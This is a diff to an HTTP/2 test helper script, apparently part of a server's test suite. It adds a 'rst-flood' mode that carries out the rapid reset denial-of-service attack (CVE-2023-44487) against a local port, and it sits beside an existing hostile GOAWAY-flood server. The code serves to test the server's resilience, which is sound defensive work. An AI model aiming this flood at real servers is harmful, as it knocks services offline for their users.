@@ -11,6 +11,10 @@
                             received until the server's END_STREAM. With "hold": no
                             END_STREAM; prints "holding" once data came back, then keeps
                             the stream open (the test freezes it with SIGSTOP).
+  h2peer.py rst-flood PORT N a hostile client (rapid reset, CVE-2023-44487): opens N POST
+                            streams on one connection, resetting each at once; prints
+                            "goaway CODE" if the server sends GOAWAY, "sent K" with the
+                            streams it got out, then "closed" when the connection ends.
   h2peer.py goaway-flood N  a hostile server: answers the first stream 200 with "hello from
                             h2\n", then sends N GOAWAY frames (NO_ERROR, legal per RFC 9113
                             §6.8: a sender may send several), then "after the flood\n" on the
@@ -26,6 +30,7 @@ import sys
 import h2.config
 import h2.connection
 import h2.events
+import h2.exceptions
 
 
 def accepted():
@@ -90,6 +95,38 @@ def goaway_flood(n):
         sock.close()
 
 
+def rst_flood(port, n):
+    sock = socket.create_connection(("127.0.0.1", int(port)))
+    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
+    conn.initiate_connection()
+    sock.sendall(conn.data_to_send())
+    headers = [(":method", "POST"), (":scheme", "http"), (":authority", "127.0.0.1:%s" % port), (":path", "/")]
+    sent = 0
+    try:
+        for i in range(n):
+            sid = conn.get_next_available_stream_id()
+            conn.send_headers(sid, headers)
+            conn.reset_stream(sid)
+            sent += 1
+            if i % 100 == 99:
+                sock.sendall(conn.data_to_send())
+        sock.sendall(conn.data_to_send())
+    except (OSError, h2.exceptions.ProtocolError):
+        pass
+    print("sent", sent, flush=True)
+    try:
+        while True:
+            data = sock.recv(65536)
+            if not data:
+                break
+            for event in conn.receive_data(data):
+                if isinstance(event, h2.events.ConnectionTerminated):
+                    print("goaway", event.error_code, flush=True)
+    except (OSError, h2.exceptions.ProtocolError):
+        pass
+    print("closed", flush=True)
+
+
 def client(port, method, target, payload, hold=False):
     sock = socket.create_connection(("127.0.0.1", int(port)))
     conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, validate_outbound_headers=False))
@@ -131,6 +168,8 @@ def client(port, method, target, payload, hold=False):
 if __name__ == "__main__":
     if sys.argv[1] == "server":
         serve()
+    elif sys.argv[1] == "rst-flood":
+        rst_flood(sys.argv[2], int(sys.argv[3]))
     elif sys.argv[1] == "goaway-flood":
         goaway_flood(int(sys.argv[2]))
     else:
